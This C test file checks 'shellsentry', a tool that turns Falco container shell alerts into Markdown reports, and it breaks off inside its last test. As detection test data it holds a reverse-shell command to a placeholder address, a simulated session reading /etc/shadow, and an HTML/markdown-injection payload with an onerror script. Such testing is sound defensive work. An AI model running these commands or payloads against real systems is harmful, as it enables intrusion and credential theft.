/* SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include <json-c/json.h>

#include "output/alert_json.h"
#include "report/analyze.h"
#include "report/report.h"
#include "rules/rules.h"
#include "tmpdir.h"

#define KB_FILE "rules/knowledge_base.yaml"
#define RULES_FILE "rules/shellsentry_rules.yaml"
#define SEED_FILE "tests/fixtures/seed_alert.json"
#define SEED_CMD "bash -c /usr/sbin/lsmod | cut -d' ' -f1 | grep -qx \"falco\""
#define KUBECTL_CMD "sh -c command -v bash >/dev/null && exec bash || exec sh"

/* Every report any test produced, for the advice check at the end. */
static struct mdbuf all_reports;

/* Run analyze on input (or on file when input is NULL); returns its stdout. */
static char *analyze(const char *input, const char *file, const char *out_dir, int want)
{
	char *argv[8] = {"analyze", "--kb", KB_FILE};
	char *out = NULL, *errs = NULL;
	size_t out_len = 0, err_len = 0;
	FILE *in, *o, *e;
	int argc = 3, ret;

	if (out_dir) {
		argv[argc++] = "--out-dir";
		argv[argc++] = (char *)out_dir;
	}
	if (file)
		argv[argc++] = (char *)file;
	in = fmemopen((void *)(input ? input : ""), input ? strlen(input) : 0, "r");
	o = open_memstream(&out, &out_len);
	e = open_memstream(&errs, &err_len);
	assert_non_null(in);
	assert_non_null(o);
	assert_non_null(e);
	ret = analyze_run(argc, argv, in, o, e);
	fclose(in);
	fclose(o);
	fclose(e);
	if (ret != want)
		fail_msg("analyze returned %d: %s", ret, errs);
	free(errs);
	if (!out_dir)
		mdbuf_puts(&all_reports, out);
	return out;
}

/* A JSON alert line with shellsentry's fields; extra: key, value pairs. */
static char *alert_line(const char *rule, const char *time, const char *cid, int pid,
			const char *cmdline, const char *k1, const char *v1)
{
	struct json_object *o = json_object_new_object(), *f = json_object_new_object();
	char *line;

	json_object_object_add(o, "time", json_object_new_string(time));
	json_object_object_add(o, "rule", json_object_new_string(rule));
	json_object_object_add(o, "priority", json_object_new_string("Warning"));
	json_object_object_add(o, "source", json_object_new_string("syscall"));
	json_object_object_add(o, "hostname", json_object_new_string("node-7"));
	json_object_object_add(o, "output", json_object_new_string("shell"));
	json_object_object_add(f, "container.id", json_object_new_string(cid));
	json_object_object_add(f, "container.image.repository",
			       json_object_new_string("docker.io/library/debian"));
	json_object_object_add(f, "k8s.ns.name", json_object_new_string("shop"));
	json_object_object_add(f, "container.privileged", json_object_new_boolean(1));
	json_object_object_add(f, "proc.cmdline", json_object_new_string(cmdline));
	json_object_object_add(f, "proc.pid", json_object_new_int(pid));
	json_object_object_add(f, "proc.vpid", json_object_new_int(1));
	json_object_object_add(f, "proc.pname", json_object_new_string("runc"));
	json_object_object_add(f, "proc.apid[1]", json_object_new_int(99));
	json_object_object_add(f, "proc.tty", json_object_new_int(34816));
	json_object_object_add(f, "user.uid", json_object_new_int(0));
	json_object_object_add(f, "user.name", json_object_new_string("root"));
	json_object_object_add(f, "user.loginuid", json_object_new_int(1000));
	json_object_object_add(f, "shellsentry.lineage", json_object_new_string("injected"));
	json_object_object_add(f, "shellsentry.cap_effective_hex",
			       json_object_new_string("0x000001ffffffffff"));
	if (k1)
		json_object_object_add(f, k1, json_object_new_string(v1));
	json_object_object_add(o, "output_fields", f);
	line = strdup(json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN));
	json_object_put(o);
	return line;
}

/*
 * A JSON alert line with exactly the given output fields: pairs of key and
 * value, "i:" before an integer value, "b:" before a boolean one, NULL ends.
 */
static char *alert_kv(const char *rule, const char *prio, const char *time, const char *host,
		      const char *const *kv)
{
	struct json_object *o = json_object_new_object(), *f = json_object_new_object(), *v;
	char *line;

	json_object_object_add(o, "time", json_object_new_string(time));
	json_object_object_add(o, "rule", json_object_new_string(rule));
	json_object_object_add(o, "priority", json_object_new_string(prio));
	json_object_object_add(o, "source", json_object_new_string("syscall"));
	json_object_object_add(o, "hostname", json_object_new_string(host));
	json_object_object_add(o, "output", json_object_new_string("shell"));
	for (; kv[0]; kv += 2) {
		if (!strncmp(kv[1], "i:", 2))
			v = json_object_new_int64(atoll(kv[1] + 2));
		else if (!strncmp(kv[1], "b:", 2))
			v = json_object_new_boolean(!strcmp(kv[1] + 2, "true"));
		else
			v = json_object_new_string(kv[1]);
		json_object_object_add(f, kv[0], v);
	}
	json_object_object_add(o, "output_fields", f);
	line = strdup(json_object_to_json_string_ext(o, JSON_C_TO_STRING_PLAIN));
	json_object_put(o);
	return line;
}

/* The text of section "## name" up to the next "## ". */
static char *section(const char *r, const char *name)
{
	const char *s = strstr(r, name), *e;

	assert_non_null(s);
	e = strstr(s + 3, "\n## ");
	return strndup(s, e ? (size_t)(e - s) : strlen(s));
}

/* The tuning section offers no exception: says so, and holds no rule to paste. */
static void assert_no_exception(const char *r)
{
	char *t = section(r, "## Tuning");

	assert_non_null(strstr(t, "No exception is offered"));
	assert_null(strstr(t, "```"));
	free(t);
}

/* The verdict as the title states it: after "on `host`: " on the first line. */
static char *title_verdict(const char *r)
{
	const char *s = strstr(r, "`: "), *e = strchr(r, '\n');

	assert_non_null(s);
	assert_true(s < e);
	return strndup(s + 3, (size_t)(e - s - 3));
}

/* One verdict, stated the same way in title, summary and the verdict section. */
static void one_verdict(const char *r)
{
	char *v = title_verdict(r), *want, *sect;

	assert_true(asprintf(&want, "**Verdict: %s.**", v) > 0);
	if (!strstr(r, want))
		fail_msg("summary does not state the title's verdict '%s'", v);
	free(want);
	sect = section(r, "## Verdict");
	if (!strstr(sect, v))
		fail_msg("verdict section does not state '%s'", v);
	free(sect);
	free(v);
}

/* The YAML of the tuning section's code block. */
static char *tuning_yaml(const char *report)
{
	const char *t = strstr(report, "## Tuning"), *start, *end;
	size_t fence = 0;

	assert_non_null(t);
	start = strstr(t, "yaml\n");
	assert_non_null(start);
	while (start - fence - 1 >= t && start[-(long)fence - 1] == '`')
		fence++;
	assert_true(fence >= 3);
	start += 5;
	end = strstr(start, "\n```");
	assert_non_null(end);
	return strndup(start, (size_t)(end - start) + 1);
}

static bool rule_matches(const struct ruleset *rs, const struct exec_event *ev, const char *name)
{
	const struct rule *m[16];
	size_t n = ruleset_eval(rs, ev, m, 16), i;

	for (i = 0; i < n; i++)
		if (!strcmp(rule_name(m[i]), name))
			return true;
	return false;
}

/*
 * The snippet must load with the shipped rules; when ev is given, the rule
 * must fire on it without the snippet and stay quiet with it.
 */
static void snippet_check(const char *report, const struct exec_event *ev, const char *rule)
{
	char path[] = "/tmp/ss_tuning_XXXXXX";
	char *yaml = tuning_yaml(report);
	const char *paths[2] = {RULES_FILE, path};
	struct rules_options opt = {.min_priority = PRIO_DEBUG};
	struct ss_error err;
	struct ruleset *rs = NULL;
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, yaml, strlen(yaml)), (ssize_t)strlen(yaml));
	close(fd);
	if (ruleset_load(paths, 2, &opt, &rs, &err, NULL))
		fail_msg("snippet does not load: %s:%d:%d: %s\n%s", err.file, err.line, err.col,
			 err.msg, yaml);
	if (ev) {
		assert_false(rule_matches(rs, ev, rule));
		ruleset_free(rs);
		assert_int_equal(ruleset_load(paths, 1, &opt, &rs, &err, NULL), 0);
		assert_true(rule_matches(rs, ev, rule));
	}
	ruleset_free(rs);
	unlink(path);
	free(yaml);
}

/* Lines starting with prefix, outside fenced code blocks. */
static size_t count_lines_starting(const char *s, const char *prefix)
{
	size_t n = 0, len = strlen(prefix), fence = 0, run;
	const char *p = s;

	while (p) {
		for (run = 0; p[run] == '`'; run++)
			;
		if (run >= 3 && !fence)
			fence = run;
		else if (fence && run >= fence && (p[run] == '\n' || !p[run]))
			fence = 0;
		else if (!fence && !strncmp(p, prefix, len))
			n++;
		p = strchr(p, '\n');
		if (p)
			p++;
	}
	return n;
}

/* The seed as Falco wrote it: nothing confirms the loader, so it only resembles it. */
static void test_seed_reproduced(void **state)
{
	char *r = analyze(NULL, SEED_FILE, NULL, 0);

	(void)state;
	assert_non_null(strstr(r, "Detect Shell in Container"));
	assert_non_null(strstr(r, "185304d1bba4"));
	assert_non_null(strstr(r, "k8s-master-01"));
	assert_non_null(strstr(r, "`root`"));
	assert_non_null(strstr(r, SEED_CMD)); /* verbatim, outside tables */
	assert_non_null(strstr(r, "**Verdict: resembles Falco's driver loader checks whether the "
				  "falco kernel module is loaded, unverified.**"));
	assert_null(strstr(r, "Verdict: expected"));
	assert_non_null(strstr(r, "falco-driver-loader-kmod-check"));
	assert_non_null(strstr(r, "falcoctl"));
	assert_non_null(strstr(r, "falco-driver-loader"));
	/* the alternative, should the checks fail */
	assert_non_null(strstr(r, "Discovery of security tooling (suspicious)"));
	/* facts Falco's JSON lacks are said to be unknown, not made up */
	assert_non_null(strstr(r, "| Lineage | *unknown"));
	assert_non_null(strstr(r, "| Image | *unknown"));
	assert_null(strstr(r, "uid 0"));
	assert_int_equal(count_lines_starting(r, "# "), 1);
	/* no exception for what is not verified */
	assert_no_exception(r);
	one_verdict(r);
	free(r);
}

/* The seed in its real context, as shellsentry sees it: expected, with a narrow exception. */
static const char *const seed_live[] = {"proc.name",
					"bash",
					"proc.cmdline",
					SEED_CMD,
					"proc.pname",
					"falcoctl",
					"proc.tty",
					"i:0",
					"proc.pid",
					"i:4242",
					"proc.vpid",
					"i:12",
					"user.uid",
					"i:0",
					"user.name",
					"root",
					"container.id",
					"185304d1bba4",
					"container.name",
					"falco-driver-loader",
					"container.image.repository",
					"falcosecurity/falco-driver-loader",
					"container.image",
					"falcosecurity/falco-driver-loader:0.40.0",
					"k8s.ns.name",
					"falco",
					"k8s.pod.name",
					"falco-x7k2p",
					"k8s.container.name",
					"falco-driver-loader",
					"shellsentry.lineage",
					"init-tree",
					"evt.arg.flags",
					"",
					"shellsentry.cap_effective_hex",
					"0x000001ffffffffff",
					"container.privileged",
					"b:true",
					NULL};

static void test_seed_in_context_is_expected(void **state)
{
	char *line = alert_kv("Detect Shell in Container", "Notice", "2024-05-15T10:02:03Z",
			      "k8s-master-01", seed_live);
	char *r = analyze(line, NULL, NULL, 0), *m;
	struct alert *a = malloc(sizeof(*a));
	struct ss_error aerr;

	(void)state;
	assert_non_null(strstr(r, "**Verdict: expected: Falco's driver loader"));
	/* the title names the pod and container, the id is in the body */
	assert_non_null(strstr(r, "# Shell activity in pod `falco`/`falco-x7k2p`, container "
				  "`falco-driver-loader` on `k8s-master-01`: expected"));
	assert_non_null(strstr(r, "| Container id | `185304d1bba4` |"));
	/* expected: no hardening of a workload that needs its privileges */
	m = section(r, "## Mitigations");
	assert_non_null(strstr(m, "Nothing here needs blocking"));
	assert_null(strstr(m, "securityContext"));
	free(m);
	one_verdict(r);
	assert_int_equal(alert_from_json(line, strlen(line), a, &aerr), 0);
	snippet_check(r, &a->ev, "Detect Shell in Container");
	free(a);
	free(r);
	free(line);
}

/* Issue 17, case 2: a failing check is suspicious everywhere, never "expected" advice. */
static void test_seed_elsewhere_one_verdict(void **state)
{
	const char *kv[64];
	char *line, *r;
	size_t i;

	(void)state;
	for (i = 0; seed_live[i]; i += 2) {
		kv[i] = seed_live[i];
		kv[i + 1] = seed_live[i + 1];
		if (!strcmp(kv[i], "container.image.repository"))
			kv[i + 1] = "localhost/bb";
		if (!strcmp(kv[i], "shellsentry.lineage"))
			kv[i + 1] = "injected";
	}
	kv[i] = NULL;
	line = alert_kv("Shell probing for security tooling", "Warning", "2024-05-15T10:02:03Z",
			"k8s-master-01", kv);
	r = analyze(line, NULL, NULL, 0);
	assert_non_null(strstr(r, "**Verdict: suspicious: resembles Falco's driver loader"));
	assert_non_null(strstr(r, "The container image is falcosecurity/falco-driver-loader or "
				  "falcosecurity/falco"));
	/* and why that matters */
	assert_non_null(strstr(r, "Only Falco's images run falcoctl's driver install"));
	assert_null(strstr(r, ": expected"));
	assert_null(strstr(r, "expected, verified"));
	assert_null(strstr(r, "add the exception from the tuning section"));
	assert_no_exception(r);
	one_verdict(r);
	free(r);
	free(line);
}

/* Issue 17, case 3 and 5: podman exec -it web-1 sh, five times in two seconds. */
static void test_podman_exec_it_one_report(void **state)
{
	static const char *const kv[] = {
		"proc.name",
		"sh",
		"proc.cmdline",
		"sh",
		"proc.pname",
		"runc",
		"proc.tty",
		"i:34816",
		"proc.pid",
		"i:5000",
		"user.uid",
		"i:0",
		"user.name",
		"root",
		"container.id",
		"3ad7b26ded6d",
		"container.full_id",
		"3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e",
		"container.name",
		"web-1",
		"container.image.repository",
		"localhost/bb",
		"container.runtime",
		"podman",
		"shellsentry.lineage",
		"injected",
		"evt.arg.flags",
		"",
		"shellsentry.cap_effective_hex",
		"0x00000000800405fb",
		NULL};
	char *lines[5], *input, dir[] = "/tmp/ss_reports_XXXXXX", *listing, *r;
	char times[5][40];
	struct dirent *de;
	size_t files = 0;
	DIR *d;
	int i;

	(void)state;
	for (i = 0; i < 5; i++) {
		snprintf(times[i], sizeof(times[i]), "2024-05-15T10:02:0%d.%d00Z", 3 + i / 3, i);
		lines[i] =
			alert_kv("Terminal shell in container", "Notice", times[i], "node-7", kv);
		/* each exec is its own process */
		*strstr(lines[i], "5000") = (char)('1' + i);
	}
	assert_true(asprintf(&input, "%s\n%s\n%s\n%s\n%s\n", lines[0], lines[1], lines[2], lines[3],
			     lines[4]) > 0);
	r = analyze(input, NULL, NULL, 0);
	assert_int_equal(count_lines_starting(r, "# Shell activity"), 1);
	assert_non_null(strstr(r, "# Shell activity in container `web-1` on `node-7`: no known "
				  "pattern: review needed"));
	assert_non_null(strstr(r, ", and 4 more times until `2024-05-15T10:02:04.400Z`"));
	assert_non_null(strstr(r, "in 5 sessions"));
	/* podman, no pod: no Kubernetes advice, podman's own */
	assert_null(strstr(r, "pods/exec"));
	assert_null(strstr(r, "Pod Security"));
	assert_null(strstr(r, "securityContext"));
	assert_non_null(strstr(r, "podman run --cap-drop=ALL"));
	assert_non_null(strstr(r, "podman events --filter event=exec"));
	/* mitigations once */
	assert_int_equal(count_lines_starting(r, "## Mitigations"), 1);
	assert_no_exception(r);
	one_verdict(r);
	free(r);

	assert_non_null(mkdtemp(dir));
	listing = analyze(input, NULL, dir, 0);
	d = opendir(dir);
	assert_non_null(d);
	while ((de = readdir(d))) {
		char path[512];

		if (de->d_name[0] == '.')
			continue;
		files++;
		/* named after the container, not its id */
		assert_non_null(strstr(de->d_name, "_node-7_web-1.md"));
		assert_null(strstr(de->d_name, "3ad7b26ded6d"));
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		unlink(path);
	}
	closedir(d);
	rmdir(dir);
	assert_int_equal(files, 1);
	free(listing);
	free(input);
	for (i = 0; i < 5; i++)
		free(lines[i]);
}

/* Issue 17, case 4: php-fpm as www-data starts a shell: RCE, the application's trail. */
static void test_webshell_trail(void **state)
{
	static const char *const kv[] = {
		"proc.name",	"sh",		"proc.cmdline",
		"sh -c id",	"proc.pname",	"php-fpm",
		"proc.tty",	"i:0",		"user.name",
		"www-data",	"user.uid",	"i:33",
		"container.id", "0123456789ab", "container.image.repository",
		"shop/php",	"k8s.ns.name",	"shop",
		"k8s.pod.name", "php-7d9f",	NULL};
	char *line = alert_kv("Detect Shell in Container", "Notice", "2024-05-15T10:02:03Z",
			      "node-7", kv);
	char *r = analyze(line, NULL, NULL, 0), *rec;

	(void)state;
	assert_non_null(strstr(r, "**Verdict: malicious-indicator: Shell started by a server "
				  "process"));
	assert_non_null(strstr(r, "Severity: **Critical**, raised from the rule's Notice"));
	rec = section(r, "## Recommendations");
	assert_non_null(strstr(rec, "application's"));
	assert_null(strstr(rec, "pods/exec"));
	free(rec);
	one_verdict(r);
	free(r);
	free(line);
}

static void test_reverse_shell_is_malicious(void **state)
{
	char *line =
		alert_line("Terminal shell in container", "2024-05-15T10:02:03.5Z", "0123456789ab",
			   4242, "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", NULL, NULL);
	char *r = analyze(line, NULL, NULL, 0);

	(void)state;
	assert_non_null(strstr(r, "**Verdict: malicious-indicator: Reverse shell.**"));
	assert_non_null(strstr(r, "`reverse-shell`"));
	/* mitigations follow the facts: root, privileged, injected with a tty */
	assert_non_null(strstr(r, "runAsNonRoot: true"));
	assert_non_null(strstr(r, "drop: [\"ALL\"]"));
	assert_non_null(strstr(r, "**privileged**"));
	assert_non_null(strstr(r, "**injected from outside**"));
	assert_non_null(strstr(r, "pods/exec"));
	assert_non_null(strstr(r, "readOnlyRootFilesystem: true"));
	assert_non_null(strstr(r, "-n shop"));
	assert_non_null(strstr(r, "pts/0"));
	assert_no_exception(r);
	one_verdict(r);
	free(r);
	free(line);
}

static void test_plain_shell_has_no_pattern(void **state)
{
	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab",
				1, "sh -c true", NULL, NULL);
	char *r = analyze(line, NULL, NULL, 0);

	(void)state;
	assert_non_null(strstr(r, "**Verdict: no known pattern: review needed.**"));
	assert_non_null(strstr(r, "matched none of the"));
	/* no pattern section in the assessment */
	assert_null(strstr(r, "\n### "));
	assert_no_exception(r);
	one_verdict(r);
	free(r);
	free(line);
}

/* Whether pos lies inside a code span of the line (CommonMark backtick runs). */
static bool in_code_span(const char *line, size_t len, size_t pos)
{
	size_t i = 0, n, j, k = 0, m = 0;

	while (i < len) {
		if (line[i] == '\\') {
			i += 2;
			continue;
		}
		if (line[i] != '`') {
			i++;
			continue;
		}
		for (n = 0; i + n < len && line[i + n] == '`'; n++)
			;
		for (j = i + n; j < len; j = k + m) {
			for (k = j; k < len && line[k] != '`'; k++)
				;
			for (m = 0; k + m < len && line[k + m] == '`'; m++)
				;
			if (m == n || k >= len)
				break;
		}
		if (j < len && k < len && m == n) {
			if (pos >= i && pos < k + m)
				return true;
			i = k + m;
		} else {
			i += n;
		}
	}
	return false;
}

/* Whether the line at bol lies inside a fenced code block of report r. */
static bool in_fenced_block(const char *r, const char *bol)
{
	size_t fence = 0, run;
	const char *p = r;

	while (p && p < bol) {
		for (run = 0; p[run] == '`'; run++)
			;
		if (run >= 3 && !fence)
			fence = run;
		else if (fence && run >= fence && (p[run] == '\n' || !p[run]))
			fence = 0;
		p = strchr(p, '\n');
		if (p)
			p++;
	}
	return fence != 0;
}

static size_t unescaped_pipes(const char *line, size_t len)
{
	size_t i, n = 0;

	for (i = 0; i < len; i++)
		n += line[i] == '|' && (i == 0 || line[i - 1] != '\\');
	return n;
}

static void test_markdown_injection_contained(void **state)
{
	const char *evil = "sh -c echo `x` ``y`` | z\n# pwned <img src=x onerror=alert(1)> |\r"
			   "\x1b[2J</code>";
	char *line = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z", "0123456789ab",
				9, evil, "container.name", "evil|name\n## Fake section");
	char *benign = alert_line("Detect Shell in Container", "2024-05-15T10:02:03Z",
				  "0123456789ab", 9, "sh -c true", "container.name", "web");
	char *r = analyze(line, NULL, NULL, 0), *rb = analyze(benign, NULL, NULL, 0);
	const char *p, *eol, *sect;
	struct ss_error aerr;
	struct alert *a;
	size_t len;

	(void)state;
	assert_int_equal(count_lines_starting(r, "# "), 1);
	assert_int_equal(count_lines_starting(r, "# pwned"), 0);
	assert_int_equal(count_lines_starting(r, "## Fake"), 0);
	assert_int_equal(count_lines_starting(r, "## "), count_lines_starting(rb, "## "));
	assert_null(strchr(r, '\r'));
	assert_null(strchr(r, 0x1b));
	/* every "<img" and "</code>" is inside a code span on its line */
	for (p = r; (p = strstr(p, "<img")) || 0; p++) {
		const char *bol = p;

		while (bol > r && bol[-1] != '\n')
			bol--;
		eol = strchr(p, '\n');
		len = eol ? (size_t)(eol - bol) : strlen(bol);
		if (!in_fenced_block(r, bol) && !in_code_span(bol, len, (size_t)(p - bol)))
			fail_msg("HTML outside a code span: %.*s", (int)len, bol);
	}
	/* table rows keep their column count */
	sect = strstr(r, "## Event details");
	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Timeline");
	     p = strstr(p, "\n|")) {
		p++;
		eol = strchr(p, '\n');
		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 3);
	}
	sect = strstr(r, "## Timeline");
	for (p = strstr(sect, "\n|"); p && p < strstr(sect, "\n## Security");
	     p = strstr(p, "\n|")) {
		p++;
		eol = strchr(p, '\n');
		assert_int_equal(unescaped_pipes(p, (size_t)(eol - p)), 8);
	}
	/* nothing is offered for an unexplained command, hostile bytes or not */
	a = malloc(sizeof(*a));
	assert_int_equal(alert_from_json(line, strlen(line), a, &aerr), 0);
	assert_non_null(strstr(r, "No exception is offered"));
	free(a);
	free(r);
	free(rb);
	free(line);
	free(benign);
}

static void test_kubectl_exec_grouped(void **state)
{
	char *l1 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.100Z",
			      "0123456789ab", 4242, KUBECTL_CMD, NULL, NULL);
	char *l2 = alert_line("Detect Shell in Container", "2024-05-15T10:02:03.140Z",
			      "0123456789ab", 4242, "bash", NULL, NULL);
	char *l3 = alert_line("Detect Shell in Container", "2024-05-15T10:02:04Z", "ba9876543210",
			      77, "bash", NULL, NULL);
	char *input, dir[] = "/tmp/ss_reports_XXXXXX", *r, *listing;
	struct dirent *de;
	size_t files = 0;
	DIR *d;

	(void)state;
	assert_true(asprintf(&input, "%s\n%s\n\nnot json\n%s\n", l1, l2, l3) > 0);
	r = analyze(input, NULL, NULL, 1); /* 1: one line was not an alert */
	assert_int_equal(count_lines_starting(r, "# Shell activity"), 2);
	/* the first report holds both commands of the exec session */
	assert_non_null(strstr(r, "| 1 | `2024-05-15T10:02:03.100Z`"));
	assert_non_null(strstr(r, "| 2 | `2024-05-15T10:02:03.140Z`"));
	assert_non_null(strstr(r, "exec bash \\|\\| exec sh"));
	assert_non_null(strstr(r, "2 distinct commands in 1 session, starting with"));
	free(r);

	assert_non_null(mkdtemp(dir));
	listing = analyze(input, NULL, dir, 1);
	d = opendir(dir);
	assert_non_null(d);
	while ((de = readdir(d))) {
		char path[512];

		if (de->d_name[0] == '.')
			continue;
		files++;
		assert_non_null(strstr(listing, de->d_name));
		assert_non_null(strstr(de->d_name, "node-7"));
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		unlink(path);
	}
	closedir(d);
	rmdir(dir);
	assert_int_equal(files, 2);
	free(listing);
	free(input);
	free(l1);
	free(l2);
	free(l3);
}

static void test_reporter_bounds(void **state)
{
	char dir[] = "/tmp/ss_live_XXXXXX", path[512];
	struct exec_event *ev = calloc(1, sizeof(*ev));
	struct reporter_stats st;
	struct reporter *rep;
	struct dirent *de;
	size_t files = 0;
	FILE *f;
	DIR *d;

	(void)state;
	assert_non_null(mkdtemp(dir));
	struct reporter_options ro = {.dir = dir, .kb_path = KB_FILE, .max_reports = 1};
	struct ss_error err;

	assert_int_equal(reporter_new(&ro, &rep, &err), 0);
	ev->time_ns = 1715767323ull * 1000000000ull;
	ev->container.is_container = true;
	snprintf(ev->container.id, sizeof(ev->container.id), "0123456789ab");
	snprintf(ev->hostname, sizeof(ev->hostname), "node-1");
	snprintf(ev->comm, sizeof(ev->comm), "bash");
	snprintf(ev->cmdline, sizeof(ev->cmdline), "bash");
	ev->lineage = SS_LINEAGE_INJECTED;
	ev->pid = 10;
	assert_int_equal(reporter_add(rep, ev, "Detect Shell in Container", PRIO_NOTICE, "o"), 0);
	snprintf(ev->container.id, sizeof(ev->container.id), "ba9876543210");
	assert_int_equal(reporter_add(rep, ev, "Detect Shell in Container", PRIO_NOTICE, "o"), 0);
	assert_int_equal(reporter_flush(rep, ev->time_ns, false), 0);
	reporter_get_stats(rep, &st);
	assert_int_equal(st.written, 0); /* windows still open */
	assert_int_equal(reporter_flush(rep, 0, true), 0);
	reporter_get_stats(rep, &st);
	assert_int_equal(st.written, 1);
	assert_int_equal(st.dropped, 1);
	reporter_free(rep);
	d = opendir(dir);
	while ((de = readdir(d))) {
		char *text = NULL;
		size_t cap = 0;

		if (de->d_name[0] == '.')
			continue;
		files++;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		f = fopen(path, "r");
		assert_non_null(f);
		assert_true(getdelim(&text, &cap, '\0', f) > 0);
		fclose(f);
		/* live events carry every fact: none is "not in the alert" */
		assert_null(strstr(text, "not in the alert"));
		assert_non_null(strstr(text, "injected"));
		mdbuf_puts(&all_reports, text);
		free(text);
		unlink(path);
	}
	closedir(d);
	rmdir(dir);
	assert_int_equal(files, 1);
	free(ev);
}

/* The only report file of dir, read whole (the caller frees it); NULL when none. */
static char *only_report(const char *dir)
{
	char path[512], *text = NULL;
	struct dirent *de;
	size_t cap = 0, n = 0;
	FILE *f;
	DIR *d = opendir(dir);

	assert_non_null(d);
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		n++;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		f = fopen(path, "r");
		assert_non_null(f);
		free(text);
		text = NULL;
		assert_true(getdelim(&text, &cap, '\0', f) > 0);
		fclose(f);
	}
	closedir(d);
	assert_int_equal(n, 1);
	return text;
}

static void session_exec(struct exec_event *ev, uint32_t pid, uint64_t t, const char *comm,
			 const char *cmdline, bool leader, const char *in, const char *out)
{
	memset(ev, 0, sizeof(*ev));
	ev->time_ns = t;
	ev->pid = pid;
	ev->container.is_container = true;
	ev->container.runtime = RUNTIME_PODMAN;
	snprintf(ev->container.id, sizeof(ev->container.id), "0123456789ab");
	snprintf(ev->container.name, sizeof(ev->container.name), "web-1");
	snprintf(ev->hostname, sizeof(ev->hostname), "node-1");
	snprintf(ev->comm, sizeof(ev->comm), "%s", comm);
	snprintf(ev->cmdline, sizeof(ev->cmdline), "%s", cmdline);
	snprintf(ev->user_name, sizeof(ev->user_name), "root");
	ev->lineage = leader ? SS_LINEAGE_INJECTED : SS_LINEAGE_INIT_TREE;
	ev->ancestor_count = 1;
	snprintf(ev->ancestors[0].comm, sizeof(ev->ancestors[0].comm), "%s",
		 leader ? "runc" : "sh");
	snprintf(ev->session, sizeof(ev->session), "4242-1a2b3c");
	ev->session_pid = 4242;
	ev->flags = SS_F_SESSION | (leader ? SS_F_SESSION_START : 0);
	if (leader)
		snprintf(ev->session_reasons, sizeof(ev->session_reasons), "injected,network");
	snprintf(ev->stdio[0].type, sizeof(ev->stdio[0].type), "%s", in);
	snprintf(ev->stdio[1].type, sizeof(ev->stdio[1].type), "%s", out);
	if (!strcmp(in, "ipv4"))
		snprintf(ev->stdio_peer, sizeof(ev->stdio_peer), "198.51.100.7:4444");
}

/*
 * A reverse shell's session, live: the shell (a TCP socket on its stdio,
 * nothing telling in its command line) and what it ran; its end. One report:
 * the verdict names the peer, every command is in the timeline, the session
 * summary says how long, how many, how it ended and what was held back.
 */
static void test_session_report(void **state)
{
	char dir[] = "/tmp/ss_sess_XXXXXX", *text;
	struct exec_event *ev = calloc(1, sizeof(*ev));
	struct reporter_options ro = {.kb_path = KB_FILE};
	const char *rule = "Reverse or bind shell in container";
	uint64_t t0 = 1715767323ull * 1000000000ull;
	struct session_end end;
	struct reporter *rep;
	struct ss_error err;

	(void)state;
	assert_non_null(ev);
	assert_non_null(mkdtemp(dir));
	ro.dir = dir;
	assert_int_equal(reporter_new(&ro, &rep, &err), 0);
	session_exec(ev, 4242, t0, "sh", "sh -i", true, "ipv4", "ipv4");
	/* a runtime's parent command line runs to kilobytes: cut in the details */
	memset(ev->pcmdline, 'x', 900);
	memcpy(ev->pcmdline, "conmon --api-version 1", 22);
	ev->pcmdline[900] = '\0';
	assert_int_equal(reporter_session_command(rep, ev, &rule, 1), 0);
	assert_int_equal(reporter_add(rep, ev, rule, PRIO_CRITICAL, "o"), 0);
	session_exec(ev, 4250, t0 + 3000000000ull, "id", "id", false, "ipv4", "ipv4");
	assert_int_equal(reporter_session_command(rep, ev, NULL, 0), 0);
	session_exec(ev, 4251, t0 + 9000000000ull, "cat", "cat /etc/shadow", false, "ipv4", "ipv4");
	assert_int_equal(reporter_session_command(rep, ev, NULL, 0), 0);
	memset(&end, 0, sizeof(end));
	snprintf(end.session, sizeof(end.session), "4242-1a2b3c");
	end.start_ns = t0;
	end.end_ns = t0 + 12500000000ull;
	end.commands = 5;
	end.capped = 2;
	end.members = 1;
	end.pid = 4242;
	end.exit_status = 0;
	assert_int_equal(reporter_session_end(rep, &end), 0);
	assert_int_equal(reporter_flush(rep, 0, true), 0);
	reporter_free(rep);
	text = only_report(dir);
	mdbuf_puts(&all_reports, text);
	if (getenv("SS_TEST_SHOW"))
		fputs(text, stderr);
	assert_non_null(strstr(text,
			       "# Shell activity in container `web-1` on `node-1`: "
			       "malicious-indicator: a shell whose standard input or output is "
			       "a network connection (reverse or bind shell), peer "
			       "`198.51.100.7:4444`"));
	assert_non_null(strstr(text, "## Shell session\n"));
	assert_non_null(
		strstr(text, "| `4242-1a2b3c` | `sh -i` (pid 4242) | `injected,network` |"));
	assert_non_null(strstr(text,
			       "| 12.5 s | 5 (3 in the timeline; 2 not shown: session caps) | "
			       "`exit 0` |"));
	assert_non_null(strstr(text, "1 of its processes were still running when the shell "
				     "exited"));
	assert_non_null(strstr(text, "`cat /etc/shadow`"));
	assert_non_null(strstr(text, "| `id` |"));
	/* the strongest finding states a row; the knowledge base's other patterns are named */
	assert_non_null(strstr(text, "| `cat /etc/shadow` |  | malicious-indicator: network stdio, "
				     "peer `198.51.100.7:4444`; also `shadow-file-access` |"));
	assert_non_null(strstr(text, "No exception is offered"));
	/* the peer in the recommendations */
	assert_non_null(strstr(text, "| Parent command line | `conmon --api-version 1xxx"));
	assert_non_null(strstr(text, "xxx` ... (900 bytes in all; whole in the alert's "
				     "`proc.pcmdline`) |"));
